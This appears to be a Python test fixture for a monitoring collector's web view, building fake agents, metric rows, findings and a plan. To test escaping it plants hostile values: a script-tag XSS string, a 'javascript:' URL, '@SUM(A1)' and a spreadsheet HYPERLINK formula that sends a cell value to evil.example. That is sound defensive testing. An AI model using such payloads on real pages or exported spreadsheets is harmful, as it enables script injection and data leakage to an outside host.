"""A collector's view in memory, with a realistic little site in it, and with hostile names."""

from __future__ import annotations

import asyncio
import tarfile
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import msgspec

from collector.agents import AgentState
from collector.now import NowRow
from collector.plan_try import Replayed, Tried, TriedSubject, TryQuery, UnknownPoint
from collector.rollups.progress import RollupProgress
from collector.thresholds.report import ThresholdReport
from collector.watched import STATES
from collector.web.view import (
    Counters,
    Health,
    Language,
    MetricValue,
    Part,
    PlanSummary,
    PointSummary,
    SampleQuery,
    Samples,
    SeriesInfo,
    SeriesList,
    SeriesQuery,
    SubjectSamples,
)
from setpoint.finding import Evidence, Finding, State, finding_id

NOW_MS = 1_791_000_000_000
HOSTILE = '<script>alert("1")</script>'
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"click")'
MINUTE = 60_000
HOUR = 60 * MINUTE


def agent(name: str, **changes: Any) -> AgentState:
    state = AgentState(
        site="hq",
        name=name,
        state="online",
        since_ms=NOW_MS - 30 * HOUR,
        version="0.1.0",
        platform="Linux-6.1.0-x86_64-with-glibc2.36",
        inputs={"cpu": 10_000, "mem": 10_000, "disk": 60_000, "snmp": 30_000},
        first_ms=NOW_MS - 30 * 24 * HOUR,
        last_ms=NOW_MS - 4_000,
        batches=10_812,
        readings=1_204_331,
    )
    for key, value in changes.items():
        setattr(state, key, value)
    return state


def agents() -> list[AgentState]:
    return [
        agent("jump-01", last_ms=NOW_MS - 7_000),
        agent("mon-01"),
        agent("mon-02", rejected_readings=12, clock_offset_ms=412_000),
        agent("web-01", state="offline", last_ms=NOW_MS - 26 * MINUTE, reason="stopped"),
        agent("web-02", last_ms=NOW_MS - 11 * MINUTE, reason=""),
        agent(HOSTILE, state="unknown", version="", platform="", inputs={}, readings=17, batches=2),
    ]


def row(point: str, title: str, subject: dict[str, str], state: str, **changes: Any) -> NowRow:
    values: dict[str, Any] = {
        "metric": "cpu.usage_active",
        "value": 12.5,
        "unit": "percent",
        "time_ms": NOW_MS - 4_000,
        "since_ms": NOW_MS - 3 * HOUR,
        "warning": "above 80 % for 5m",
        "critical": "above 95 % for 5m",
        "metric_class": "technical",
        "element": "resource",
    }
    return NowRow(point=point, title=title, subject=subject, state=state, **{**values, **changes})  # type: ignore[arg-type]


def now_rows() -> list[NowRow]:
    """Sixty planned subjects in all states."""
    hosts = ["mon-01", "mon-02", "jump-01", "web-01", "web-02", "db-01"]
    rows = []
    for number, host in enumerate(hosts):
        gone = host in ("web-01", "web-02")
        silent: dict[str, Any] = {"time_ms": NOW_MS - 11 * MINUTE, "since_ms": NOW_MS - 11 * MINUTE}
        never: dict[str, Any] = {"time_ms": None, "since_ms": None, "value": None}
        common = silent if gone else never if host == "db-01" else {}
        usual = "silent" if gone else "never" if host == "db-01" else "normal"
        rows.append(
            row("host-cpu", "CPU busy", {"host": host}, usual if host != "mon-02" else "critical",
                **{"value": 97.31 if host == "mon-02" else 8.0 + number * 3.3, **common})
        )  # fmt: skip
        rows.append(
            row("host-memory", "Memory used", {"host": host}, usual if host != "jump-01" else "warning",
                **{"metric": "mem.used_percent", "value": 86.4 if host == "jump-01" else 41.2, **common,
                   "warning": "above 85 % for 10m", "critical": "above 95 % for 10m"})
        )  # fmt: skip
        for path in ("/", "/var", "/srv/backup"):
            rows.append(
                row("disk-full", "Disk space used", {"host": host, "path": path}, usual,
                    **{"metric": "disk.used_percent", "value": 33.0 + number * 4 + len(path), **common,
                       "warning": "above 80 percent", "critical": "above 90 percent"})
            )  # fmt: skip
        for interface in ("eth0", "eth1"):
            rows.append(
                row("host-net-in", "Network in", {"host": host, "interface": interface},
                    "unjudged" if usual == "normal" else usual,
                    **{"metric": "net.bytes_recv", "value": 1.8e7 * (number + 1), "unit": "bit/s", **common,
                       "warning": "", "critical": ""})
            )  # fmt: skip
        rows.append(
            row("erp-answers", "ERP answers", {"host": host, "server": "https://erp.example/login"}, usual,
                **{"metric": "http_response.response_time", "value": 0.184 * (number + 1), "unit": "s",
                   **common, "warning": "above 2 s for 2m", "critical": "above 10 s for 2m",
                   "metric_class": "service"})
        )  # fmt: skip
        rows.append(
            row("backup-age", "Age of the newest backup", {"host": host, "file": "/srv/backup/*.tar"}, usual,
                **{"metric": "file_age.age_s", "value": 30_000.0 * (number + 1), "unit": "s", **common,
                   "warning": "above 93600 s", "critical": "above 180000 s", "metric_class": "process"})
        )  # fmt: skip
        rows.append(
            row("rss", "Memory of the collector", {"host": host}, usual,
                **{"metric": "procstat.memory_rss", "value": 2.1e8 + number, "unit": "bytes", **common,
                   "warning": "above 2000000000 bytes", "critical": ""})
        )  # fmt: skip
    rows[-1] = row(
        "hostile", HOSTILE, {"host": HOSTILE, "name": FORMULA}, "unjudged", warning="", critical=""
    )
    rank = {state: number for number, state in enumerate(STATES)}
    return sorted(rows, key=lambda r: rank[r.state])


def finding(kind: str, point: str | None, subject: dict[str, str], title: str, **changes: Any) -> Finding:
    values: dict[str, Any] = {
        "severity": "warning",
        "reasons": ["the gap is 12 % of the target", "it serves ERP"],
        "text": {
            "en": f"**{title}.** In October so far the 95th percentile was 84.2 %; plan revision 14 allows "
            "at most 70 %, so it is 14.2 percentage points too high. Coverage 99.2 %. Serves: ERP. "
            "Proposed: add capacity or move load. Mended when: a month with at least 95 % coverage holds "
            "the target.",
            "zh": f"**{title}。** 2026 年 10 月截至目前 95 百分位数为 84.2 %；计划修订 14 允许不高于 70 %，"
            "偏高 14.2 个百分点。测量覆盖率 99.2 %。涉及服务：ERP。建议：增加容量或迁移负载。",
        },
        "metric": "cpu.usage_active",
        "objectives": ["erp-uptime"],
        "measured": 84.2,
        "target": 70.0,
        "gap": 14.2,
        "unit": "percent",
        "evidence": Evidence(
            start_ms=NOW_MS - 72 * HOUR,
            end_ms=NOW_MS,
            samples=25_713,
            coverage=0.992,
            statistics={"mean": 51.2, "min": 1.25, "max": 99.8, "p95": 84.2},
            episodes=[(NOW_MS - 30 * HOUR, NOW_MS - 29 * HOUR), (NOW_MS - 8 * HOUR, NOW_MS - 7 * HOUR)],
            query="/api/series?metric=cpu.usage_active&host=mon-02",
        ),
        "plan_revision": 14,
        "plan_hash": "5f1c00aa12bd9e77",
        "metric_class": "technical",
        "element": "resource",
        "owner": "platform",
        "action": "Add capacity or move load; see the capacity procedure.",
        "mended_when": "a month with at least 95 % coverage holds the target",
        "first_seen_ms": NOW_MS - 70 * HOUR,
        "last_seen_ms": NOW_MS - 20_000,
    }
    number = finding_id(kind, point or "", tuple(subject.items()))
    return Finding(id=number, kind=kind, point=point, subject=subject, title=title, **{**values, **changes})


def findings() -> list[Finding]:
    """Twelve findings: ten open, one closed, one superseded."""
    nothing: dict[str, Any] = {"measured": None, "target": None, "gap": None, "unit": ""}
    seconds: dict[str, Any] = {"unit": "s", "metric": "http_response.response_time"}
    members = [f"host=mon-0{n % 3} interface=veth{n:04d}" for n in range(37)]
    return [
        finding("went-silent", None, {"host": "web-02"}, "web-02 stopped reporting", severity="critical",
                **nothing, text={"en": "**web-02 stopped reporting.** Nothing came for 11 min.",
                                 "zh": "**web-02 已停止上报。** 11 分钟没有数据。"}),
        finding("threshold-breached", "host-cpu", {"host": "mon-02"},
                "CPU busy on mon-02 above 95 % for 3 h 42 min", severity="critical",
                measured=13_320.0, target=3_600.0, gap=9_720.0, unit="s"),
        finding("target-missed", "host-cpu", {"host": "mon-02"}, "CPU busy on mon-02 misses its target"),
        finding("target-missed", "erp-answers", {"host": "mon-01", "server": "https://erp.example/login"},
                "ERP answers too slowly", measured=2.8, target=1.5, gap=1.3, **seconds),
        finding("not-measured", "host-cpu", {"host": "db-01"},
                "CPU busy on db-01 is planned and was never measured", **nothing),
        finding("thin-coverage", "disk-full", {"host": "jump-01", "path": "/srv/backup"},
                "Disk space used on jump-01 is measured for 61 % of the time",
                measured=61.0, target=90.0, gap=-29.0),
        finding("no-threshold", "host-net-in", {},
                "Network in is measured and nobody said what is good (12 subjects)",
                severity="info", **nothing,
                evidence=Evidence(start_ms=NOW_MS - 72 * HOUR, end_ms=NOW_MS, members=members)),
        finding("unplanned-series", None, {"measurement": "diskio"},
                "84 series of diskio are measured and not planned",
                severity="info", measured=84.0, target=0.0, gap=84.0, unit="series"),
        finding("clock-skew", None, {"host": "mon-02"}, "The clock of mon-02 is 6 min 52 s ahead",
                measured=412.0, target=300.0, gap=112.0, unit="s"),
        finding("target-missed", "hostile", {"host": HOSTILE, "name": FORMULA}, f"{HOSTILE} & {FORMULA}",
                severity="info", action=FORMULA, owner="@SUM(A1)", reasons=[HOSTILE], **nothing,
                evidence=Evidence(start_ms=0, end_ms=NOW_MS, members=[HOSTILE], query="javascript:alert(1)")),
        finding("target-missed", "disk-full", {"host": "mon-01", "path": "/var"},
                "Disk space used on mon-01 path /var", state="closed", closed_ms=NOW_MS - HOUR),
        finding("target-missed", "old-point", {"host": "mon-01"}, "A point that is no longer planned",
                state="superseded", closed_ms=NOW_MS - HOUR, superseded_by=14),
    ]  # fmt: skip


def plan() -> PlanSummary:
    point = PointSummary(
        id="host-cpu",
        title="CPU busy",
        metric="cpu.usage_active",
        unit="percent",
        objectives=["erp-uptime"],
        warning="above 80 % for 5m",
        critical="above 95 % for 5m",
        good="",
        targets=["p95 at most 70 percent"],
        every_ms=10_000,
        metric_class="technical",
        element="resource",
        owner="platform",
        action="Add capacity or move load.",
    )
    return PlanSummary(
        title="Operations resources",
        revision=14,
        hash="5f1c00aa12bd9e77",
        site="hq",
        timezone="Asia/Shanghai",
        review="month",
        approved_by="Service quality lead",
        approved_on="2026-10-01",
        points=[point],
    )


class FakeView:
    """Answers from lists that a test may change. ``broken`` is raised by everything that is awaited;
    samples take ``samples_take_s``. Of ``rollup_progress`` each answer takes the first, and the last stays.
    """

    def __init__(self) -> None:
        self.reset()

    def reset(self) -> None:
        """Makes it as new."""
        self.version = "0.1.0"
        self.started_ms = NOW_MS - 26 * HOUR
        self.now_ms = NOW_MS
        self.threshold_report: ThresholdReport | None = None
        self.rollup_progress = [RollupProgress(hours_left=0, late_hours=0, points=[])]
        self.all_agents = agents()
        self.rows = now_rows()
        self.all_findings = findings()
        self.all_rejected: list[dict[str, Any]] = [
            {"time_ms": NOW_MS, "agent": HOSTILE, "batch": "", "reason": "line 3: no fields", "readings": 1}
        ]
        self.parts = {"broker": Part(True, "connected"), "store": Part(True)}
        self.more_metrics: list[MetricValue] = []
        self.broken: Exception | None = None
        self.samples_take_s = 0.0
        self.queries: list[SampleQuery | SeriesQuery] = []
        self.tries: list[TryQuery] = []
        self.backups: list[Path] = []

    def clock_ms(self) -> int:
        return self.now_ms

    def health(self) -> Health:
        return Health(all(part.ok for part in self.parts.values()), self.parts)

    def counters(self) -> Counters:
        return Counters(
            readings_stored=7_225_986, batches_stored=64_872, batches_repeated=3, readings_rejected=12
        )

    def plan(self) -> PlanSummary:
        return plan()

    def agents(self) -> Sequence[AgentState]:
        return self.all_agents

    def now(self, language: Language) -> Sequence[NowRow]:
        if language == "zh":
            return [
                msgspec.structs.replace(r, critical="高于 95 %、持续 5 分钟" if r.critical else "")
                for r in self.rows
            ]
        return self.rows

    def now_counts(self) -> Mapping[str, int]:
        return {state: sum(r.state == state for r in self.rows) for state in STATES}

    def series(self, query: SeriesQuery) -> SeriesList:
        self.queries.append(query)
        info = SeriesInfo(
            measurement="cpu",
            tags={"host": "mon-01", "cpu": "cpu-total"},
            field="usage_active",
            type="float",
            first_ms=NOW_MS - HOUR,
            last_ms=NOW_MS,
            last_value=12.5,
        )
        return SeriesList(1, [info])

    def metrics(self) -> Sequence[MetricValue]:
        return self.more_metrics

    async def findings(self, state: State | None) -> Sequence[Finding]:
        self._fail()
        return [f for f in self.all_findings if state in (None, f.state)]

    async def finding(self, finding_id: str) -> Finding | None:
        self._fail()
        return next((f for f in self.all_findings if f.id == finding_id), None)

    async def rejected(self, limit: int) -> Sequence[Mapping[str, Any]]:
        self._fail()
        return self.all_rejected[:limit]

    def thresholds(self) -> ThresholdReport | None:
        return self.threshold_report

    async def rollups(self) -> RollupProgress:
        self._fail()
        return self.rollup_progress.pop(0) if len(self.rollup_progress) > 1 else self.rollup_progress[0]

    async def samples(self, query: SampleQuery) -> Samples:
        self._fail()
        self.queries.append(query)
        await asyncio.sleep(self.samples_take_s)
        samples = [(query.start_ms, 1.5), (query.start_ms + 10_000, 2.5)]
        return Samples(False, [SubjectSamples({"host": "mon-01"}, samples)])

    def replay(self, query: TryQuery) -> Tried:
        self.tries.append(query)
        if query.point == "nobody":
            raise UnknownPoint('the plan has no point "nobody"')
        replayed = Replayed(
            "above 95 percent", 3, 3_600_000, 1_800_000, [(query.start_ms, query.start_ms + 1)]
        )
        row = TriedSubject({"host": "mon-01"}, 1.0, 0.5, 99.0, {"critical": replayed}, {"critical": replayed})
        return Tried(query.point, "CPU busy", "percent", "UTC", query.start_ms, query.end_ms, [row])

    async def backup(self, path: Path) -> None:
        self._fail()
        self.backups.append(path)
        with tarfile.open(path, "w") as archive:
            archive.add(__file__, arcname="store.duckdb")

    def _fail(self) -> None:
        if self.broken is not None:
            raise self.broken
